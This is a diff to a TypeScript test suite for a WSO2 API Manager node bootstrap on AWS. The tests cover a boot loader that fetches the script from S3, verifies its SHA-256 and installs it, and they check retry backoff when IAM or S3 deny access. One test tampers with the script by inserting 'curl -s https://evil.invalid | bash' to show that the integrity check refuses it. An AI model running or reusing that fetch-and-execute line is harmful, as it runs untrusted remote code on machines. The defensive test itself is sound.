@@ -12,6 +12,11 @@ import { sampleConfig, sampleFacts } from "../support/sampleConfig";
 import { planCluster } from "../../lib/plan/clusterPlan";
 import { renderNodeUserData } from "../../lib/node/nodeUserData";
 import { writtenFiles } from "../../lib/node/userDataDecoding";
+import { bootScriptArtifact } from "../../lib/node/bootScript";
+import { parse as parseYaml } from "yaml";
+import { spawn as spawnProcess } from "child_process";
+import { createHash } from "crypto";
+import { STUBBED as SANDBOX_STUBS } from "./fixtures/sandbox";
 import {
     APIM_HOME, Fixtures, RunResult, Sandbox, buildFixtures, calls, copySandbox, keytool, makeSandbox, runBootstrap, sh, sha256, stepsStarted, tempDir, unpacked, walk,
     DEPLOYMENT_TOML, VERSION,
@@ -47,12 +52,40 @@ interface BootedNode {
     readonly plan: ClusterPlan;
     /** The deployment.toml cloud-init writes, before the vault step appends its [secrets] table. */
     readonly deploymentToml: string;
+    /** The command cloud-init runs (the boot loader), as rendered. */
+    readonly runcmd: string[];
+}
+
+/**
+ * A rendered runcmd entry, run in the sandbox: its program under the node root, its arguments as
+ * rendered (the loader resolves them under WSO2AM_ROOT, as the boot script does its paths).
+ */
+function runCommand(sb: Sandbox, argv: readonly string[], extraEnv: NodeJS.ProcessEnv = {}): Promise<RunResult> {
+    return new Promise((resolve, reject) => {
+        const child = spawnProcess(path.join(sb.root, argv[0]), argv.slice(1), { env: { ...sb.env, ...extraEnv }, stdio: ["ignore", "pipe", "pipe"] });
+        let stdout = "";
+        let stderr = "";
+        child.stdout.on("data", (d) => (stdout += d));
+        child.stderr.on("data", (d) => (stderr += d));
+        child.on("error", reject);
+        child.on("close", (code) => resolve({ code, stdout, stderr }));
+    });
+}
+
+/** The stand-in S3 (fixtures/stub.sh) of one sandbox: `content` at s3://<bucket>/<key>. */
+function serveObject(sb: Sandbox, location: { readonly bucket: string; readonly key: string }, content: string): void {
+    const dir = path.join(path.dirname(sb.root), "s3");
+    const file = path.join(dir, location.bucket, location.key);
+    fs.mkdirSync(path.dirname(file), { recursive: true });
+    fs.writeFileSync(file, content);
+    sb.env.STUB_S3 = dir;
 }
 
 /**
  * The second node of the pair as the program renders it (analytics on, so the server reads one secret
- * from its environment), its user data's files laid where cloud-init writes them, booted once: one test
- * reads what the first boot left, one what the renderer decided, and one boots a copy of it again.
+ * from its environment), its user data's files laid where cloud-init writes them, booted once through
+ * its runcmd: the loader fetches the boot script the program stores in S3, checks it and runs it. One
+ * test reads what the first boot left, one what the renderer decided, and one boots a copy of it again.
  */
 let firstBoot: Promise<BootedNode> | undefined;
 const bootedNode = (): Promise<BootedNode> => (firstBoot ??= (async () => {
@@ -66,7 +99,8 @@ const bootedNode = (): Promise<BootedNode> => (firstBoot ??= (async () => {
         analyticsAuthToken: "in the stack secret",
     });
     const plan = planCluster(config);
-    const files = writtenFiles(renderNodeUserData(config, plan, plan.nodes[1], sampleFacts).cloudConfig);
+    const { cloudConfig } = renderNodeUserData(config, plan, plan.nodes[1], sampleFacts);
+    const files = writtenFiles(cloudConfig);
     const sb = fresh();
     for (const file of files) {
         const target = path.join(sb.root, file.path);
@@ -74,8 +108,11 @@ const bootedNode = (): Promise<BootedNode> => (firstBoot ??= (async () => {
         fs.writeFileSync(target, file.content, { mode: parseInt(file.permissions, 8) });
     }
     sb.env.WSO2AM_ENV_FILE = path.join(sb.root, plan.paths.nodeEnvFile);
+    // the object the program stores (components/bootArtifacts.ts), where the rendered facts say it is
+    serveObject(sb, sampleFacts.bootScript, bootScriptArtifact(plan.paths.bootstrapScript).content);
+    const [runcmd] = parseYaml(cloudConfig).runcmd as string[][];
     const deploymentToml = files.find((f) => f.path === plan.paths.deploymentToml)!.content.toString();
-    return { sb, r: await runBootstrap(sb), config, plan, deploymentToml };
+    return { sb, r: await runCommand(sb, runcmd), config, plan, deploymentToml, runcmd };
 })());
 
 beforeAll(() => {
@@ -221,7 +258,7 @@ suite("bootstrap.sh in a sandbox", () => {
         expect(read(path.join(root, "etc/hosts"))).toBe("127.0.0.1 localhost\n::1 localhost\n127.0.0.1 api.example.com\n");
 
         const log = calls(sb);
-        expect(log).toContain("dnf -y -q install java-21-amazon-corretto-headless amazon-efs-utils jq mariadb105 unzip amazon-cloudwatch-agent");
+        expect(log).toContain("dnf -y -q install java-21-amazon-corretto-headless amazon-efs-utils jq mariadb105 mariadb-connector-c unzip amazon-cloudwatch-agent");
         expect(log).toContain("groupadd --system --gid 10001 wso2apim");
         expect(log).toContain(`useradd --system --uid 10001 --gid 10001 --home-dir ${APIM_HOME} --no-create-home --shell /sbin/nologin wso2apim`);
         expect(log.filter((l) => l.startsWith("mysql-source "))).toEqual([
@@ -424,3 +461,192 @@ suite("a node rendered by the program", () => {
         );
     });
 });
+
+/**
+ * A node's first AWS calls, seconds after IAM created its role: the stand-in AWS refuses the secret read
+ * the way AWS does until the role has propagated, and the stand-in sleep records each delay and returns.
+ */
+suite("bootstrap.sh while IAM does not let the node's role in yet", () => {
+    const SECRET_READ = "aws secretsmanager get-secret-value --secret-id arn:aws:secretsmanager:eu-west-1:123456789012:secret:apim-AbCdEf";
+    const REFUSAL = /An error occurred \(AccessDeniedException\) when calling the GetSecretValue operation: User: \S+ is not authorized to perform: secretsmanager:GetSecretValue on resource: arn:aws:secretsmanager:eu-west-1:123456789012:secret:apim-AbCdEf because no identity-based policy allows the secretsmanager:GetSecretValue action/;
+    const sleeps = (sb: Sandbox): number[] => calls(sb).filter((l) => l.startsWith("sleep ")).map((l) => Number(l.slice(6)));
+    const firstCall = (sb: Sandbox, prefix: string): number => calls(sb).findIndex((l) => l.startsWith(prefix));
+    /** Every line the script printed is one of its log lines: the CLI's multi-line error is folded into one. */
+    const onlyLogLines = (stderr: string): void => {
+        for (const line of stderr.replace(/\n$/, "").split("\n")) expect(line).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ wso2am-bootstrap \[\w+\] /);
+    };
+
+    test.concurrent("a refused secret read is retried with growing delays, each refusal logged with the call and its error, and the boot goes on", async () => {
+        const sb = fresh({ stubs: [...SANDBOX_STUBS, "sleep"], extraEnv: { STUB_AWS_DENY: "3" } });
+        const r = await runBootstrap(sb, { WSO2AM_STEPS: "secrets packages" });
+        expect(r.code).toBe(0);
+        expect(stepsStarted(r.stderr)).toEqual(["secrets", "packages"]);
+        expect(r.stderr).toContain("[packages] step packages done");
+        const refused = r.stderr.split("\n").filter((l) => l.includes("AccessDeniedException"));
+        expect(refused).toHaveLength(3);
+        refused.forEach((line, i) => {
+            expect(line).toMatch(/ wso2am-bootstrap \[secrets\] aws secretsmanager get-secret-value: An error occurred /);
+            expect(line).toMatch(REFUSAL);
+            expect(line.endsWith(` (attempt ${i + 1} of 9); retrying in ${[5, 10, 20][i]}s`)).toBe(true);
+        });
+        onlyLogLines(r.stderr);
+        expect(calls(sb).filter((l) => l.startsWith("aws "))).toHaveLength(4);
+        expect(sleeps(sb)).toEqual([5, 10, 20]);
+        expect(fs.existsSync(path.join(sb.root, "etc/wso2am/secrets.env"))).toBe(true);
+        // the journal has the refusals too, and nothing leaks
+        expect(read(path.join(sb.state, "journal"))).toMatch(/\[secrets\] aws secretsmanager get-secret-value: An error occurred \(AccessDeniedException\)/);
+        expect(leaks(r.stderr)).toEqual([]);
+    });
+
+    test.concurrent("a secret read refused throughout fails the boot after the whole backoff, naming the read and its error, with log shipping started first", async () => {
+        // no agent on the node yet, as on a fresh image: the boot installs it before its first AWS call
+        const sb = fresh({ stubs: [...SANDBOX_STUBS.filter((s) => s !== "amazon-cloudwatch-agent-ctl"), "sleep"], extraEnv: { STUB_AWS_DENY: "1000" } });
+        const r = await runBootstrap(sb);
+        expect(r.code).not.toBe(0);
+        expect(stepsStarted(r.stderr)).toEqual(["secrets"]);
+        const lines = r.stderr.trim().split("\n");
+        const last = lines[lines.length - 1];
+        expect(last).toMatch(/ wso2am-bootstrap \[secrets\] FAILED: cannot read secret arn:aws:secretsmanager:eu-west-1:123456789012:secret:apim-AbCdEf: aws secretsmanager get-secret-value: An error occurred \(AccessDeniedException\)/);
+        expect(last).toMatch(REFUSAL);
+        onlyLogLines(r.stderr);
+        // 9 tries, the delays doubling from 5s to at most 60s: 315s in all
+        expect(calls(sb).filter((l) => l.startsWith(SECRET_READ))).toHaveLength(9);
+        expect(sleeps(sb)).toEqual([5, 10, 20, 40, 60, 60, 60, 60]);
+        expect(lines.filter((l) => l.includes("retrying in"))).toHaveLength(8);
+        // the agent is installed and started before the first AWS call, so CloudWatch gets these lines too
+        const read0 = firstCall(sb, "aws ");
+        expect(firstCall(sb, "dnf -y -q install amazon-cloudwatch-agent")).toBeGreaterThan(-1);
+        expect(firstCall(sb, "dnf -y -q install amazon-cloudwatch-agent")).toBeLessThan(read0);
+        expect(firstCall(sb, "amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:")).toBeGreaterThan(-1);
+        expect(firstCall(sb, "amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:")).toBeLessThan(read0);
+        expect(r.stderr).not.toContain("CloudWatch agent did not start");
+    });
+});
+
+/**
+ * The boot loader (config-templates/boot-loader.sh), which user data carries instead of the boot script:
+ * it fetches the script from S3 with the AWS CLI (the stand-in serves $STUB_S3/<bucket>/<key>), checks its
+ * SHA-256 against user data's, installs it and runs it. The stand-in sleep records each delay and returns.
+ */
+suite("the boot loader", () => {
+    const LOADER_LINE = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ wso2am-bootstrap \[fetch\] /;
+    const GET = "aws s3api get-object";
+    const source = `s3://${sampleFacts.bootScript.bucket}/${sampleFacts.bootScript.key}`;
+    const script = () => bootScriptArtifact("/usr/local/sbin/wso2am-bootstrap");
+    const sleeps = (sb: Sandbox): number[] => calls(sb).filter((l) => l.startsWith("sleep ")).map((l) => Number(l.slice(6)));
+    const installed = (sb: Sandbox) => path.join(sb.root, "usr/local/sbin/wso2am-bootstrap");
+
+    /**
+     * A hand-made node (fixtures' node.env) with the loader and its env file as the program renders them,
+     * the stand-in S3 serving `content`; the boot script, once run, does only its secrets step.
+     */
+    function loaderNode(content: string, extraEnv: NodeJS.ProcessEnv = {}): { sb: Sandbox; runcmd: string[] } {
+        const config = sampleConfig();
+        const plan = planCluster(config);
+        const { cloudConfig } = renderNodeUserData(config, plan, plan.nodes[0], sampleFacts);
+        const sb = fresh({ stubs: [...SANDBOX_STUBS, "sleep"], extraEnv: { WSO2AM_STEPS: "secrets", ...extraEnv } });
+        for (const file of writtenFiles(cloudConfig).filter((f) => [plan.paths.bootLoader, plan.paths.bootLoaderEnvFile].includes(f.path))) {
+            fs.mkdirSync(path.dirname(path.join(sb.root, file.path)), { recursive: true });
+            fs.writeFileSync(path.join(sb.root, file.path), file.content, { mode: parseInt(file.permissions, 8) });
+        }
+        serveObject(sb, sampleFacts.bootScript, content);
+        return { sb, runcmd: (parseYaml(cloudConfig).runcmd as string[][])[0] };
+    }
+
+    test.concurrent("the rendered node's boot script came from S3, checked, installed 0755 root where the boot script lives, and ran", async () => {
+        const { sb, r, plan, runcmd } = await bootedNode();
+        expect(r.code).toBe(0);
+        expect(runcmd).toEqual([plan.paths.bootLoader, plan.paths.bootLoaderEnvFile]);
+        const lines = r.stderr.split("\n");
+        expect(lines[0]).toMatch(LOADER_LINE);
+        expect(lines[0]).toMatch(` [fetch] installed /usr/local/sbin/wso2am-bootstrap from ${source} (sha256 ${script().sha256})`);
+        expect(stepsStarted(r.stderr)).toEqual(ALL_STEPS);
+        const file = path.join(sb.root, plan.paths.bootstrapScript);
+        expect([mode(file), owner(file), read(file)]).toEqual(["755", "0:0", fs.readFileSync(path.join(__dirname, "../../config-templates/bootstrap.sh"), "utf8")]);
+        // one download, from the stack's region, straight to a file beside the script's place
+        const gets = calls(sb).filter((l) => l.startsWith(GET));
+        expect(gets).toHaveLength(1);
+        expect(gets[0]).toMatch(new RegExp(`^${GET} --bucket ${sampleFacts.bootScript.bucket} --key ${sampleFacts.bootScript.key} --region eu-west-1 ${file}\\.new-\\d+$`));
+        expect(fs.readdirSync(path.dirname(file)).sort()).toEqual(["wso2am-boot-loader", "wso2am-bootstrap"]);
+        expect(read(path.join(sb.state, "journal"))).toContain("[fetch] installed /usr/local/sbin/wso2am-bootstrap");
+    });
+
+    test.concurrent("a script that does not match user data's SHA-256 is refused: one FAILED line, nothing installed, nothing run", async () => {
+        const tampered = script().content.replace("set -Eeuo pipefail", "set -Eeuo pipefail; curl -s https://evil.invalid | bash");
+        const { sb, runcmd } = loaderNode(tampered);
+        const r = await runCommand(sb, runcmd);
+        expect(r.code).toBe(1);
+        const lines = r.stderr.trimEnd().split("\n");
+        expect(lines).toHaveLength(1);
+        expect(lines[0]).toMatch(LOADER_LINE);
+        expect(lines[0]).toMatch(new RegExp(` \\[fetch\\] FAILED: BOOT_SCRIPT_SHA256 mismatch for ${source}: expected ${script().sha256}, got ${createHash("sha256").update(tampered).digest("hex")}$`));
+        expect(fs.existsSync(installed(sb))).toBe(false);
+        expect(fs.readdirSync(path.dirname(installed(sb)))).toEqual(["wso2am-boot-loader"]);
+        // no retry of a wrong object, and the boot script never ran
+        expect(calls(sb).filter((l) => l.startsWith(GET))).toHaveLength(1);
+        expect(stepsStarted(r.stderr)).toEqual([]);
+        expect(calls(sb).filter((l) => l.startsWith("aws secretsmanager"))).toEqual([]);
+    });
+
+    test.concurrent("S3 refusing the new role's first reads: each refusal logged with the call and the CLI's error, retried with growing delays, then the boot runs", async () => {
+        const { sb, runcmd } = loaderNode(script().content, { STUB_S3_DENY: "3" });
+        const r = await runCommand(sb, runcmd);
+        expect(r.code).toBe(0);
+        const refusals = r.stderr.split("\n").filter((l) => l.includes("AccessDenied"));
+        expect(refusals).toHaveLength(3);
+        refusals.forEach((line, i) => {
+            expect(line).toMatch(LOADER_LINE);
+            expect(line).toContain(
+                `[fetch] ${GET} ${source} failed (attempt ${i + 1} of 10): An error occurred (AccessDenied) when calling the GetObject operation: ` +
+                    `User: arn:aws:sts::123456789012:assumed-role/wso2-apim-node/i-0123456789abcdef0 is not authorized to perform: s3:GetObject`,
+            );
+            expect(line.endsWith(`; retrying in ${[5, 10, 20][i]}s`)).toBe(true);
+        });
+        expect(sleeps(sb)).toEqual([5, 10, 20]);
+        expect(calls(sb).filter((l) => l.startsWith(GET))).toHaveLength(4);
+        expect(r.stderr).toContain(`[fetch] installed /usr/local/sbin/wso2am-bootstrap from ${source}`);
+        expect(stepsStarted(r.stderr)).toEqual(["secrets"]);
+        expect(r.stderr).toContain("[secrets] step secrets done");
+
+        // run again (say, by hand): the installed script matches, so nothing is fetched
+        const before = calls(sb).length;
+        const again = await runCommand(sb, runcmd);
+        expect(again.code).toBe(0);
+        expect(again.stderr).toContain(`[fetch] /usr/local/sbin/wso2am-bootstrap is already ${source}`);
+        expect(calls(sb).slice(before).filter((l) => l.startsWith(GET))).toEqual([]);
+        expect(stepsStarted(again.stderr)).toEqual(["secrets"]);
+    });
+
+    test.concurrent("a download that never succeeds ends, after about 6 minutes of backoff, with one FAILED line naming the last error; nothing runs", async () => {
+        const { sb, runcmd } = loaderNode(script().content, { STUB_S3_DENY: "1000" });
+        const r = await runCommand(sb, runcmd);
+        expect(r.code).toBe(1);
+        const lines = r.stderr.trimEnd().split("\n");
+        for (const line of lines) expect(line).toMatch(LOADER_LINE);
+        expect(lines.filter((l) => l.includes("retrying in"))).toHaveLength(9);
+        expect(lines.filter((l) => l.includes("FAILED:"))).toHaveLength(1);
+        expect(lines[lines.length - 1]).toMatch(
+            new RegExp(` \\[fetch\\] FAILED: ${GET} ${source} failed 10 times, the last: An error occurred \\(AccessDenied\\) when calling the GetObject operation: .* s3:GetObject action$`),
+        );
+        expect(sleeps(sb)).toEqual([5, 10, 20, 40, 60, 60, 60, 60, 60]);
+        expect(sleeps(sb).reduce((a, b) => a + b, 0)).toBe(375);
+        expect(fs.existsSync(installed(sb))).toBe(false);
+        expect(fs.readdirSync(path.dirname(installed(sb)))).toEqual(["wso2am-boot-loader"]);
+        expect(stepsStarted(r.stderr)).toEqual([]);
+    });
+
+    test.concurrent("an object missing from the bucket, or no AWS CLI at all, fails the same way", async () => {
+        const missing = loaderNode(script().content);
+        fs.rmSync(path.join(missing.sb.env.STUB_S3 as string), { recursive: true });
+        const r = await runCommand(missing.sb, missing.runcmd);
+        expect(r.code).toBe(1);
+        expect(r.stderr.trimEnd().split("\n").pop()).toMatch(/ \[fetch\] FAILED: aws s3api get-object \S+ failed 10 times, the last: An error occurred \(NoSuchKey\)/);
+
+        const noCli = loaderNode(script().content);
+        fs.rmSync(path.join(path.dirname(noCli.sb.root), "bin", "aws"));
+        const r2 = await runCommand(noCli.sb, noCli.runcmd, { PATH: `${path.join(path.dirname(noCli.sb.root), "bin")}:/nonexistent` });
+        expect(r2.code).toBe(1);
+        expect(r2.stderr.trimEnd().split("\n")).toEqual([expect.stringMatching(new RegExp(` \\[fetch\\] FAILED: no AWS CLI \\(aws\\) on PATH to fetch ${source}$`))]);
+    });
+});
+
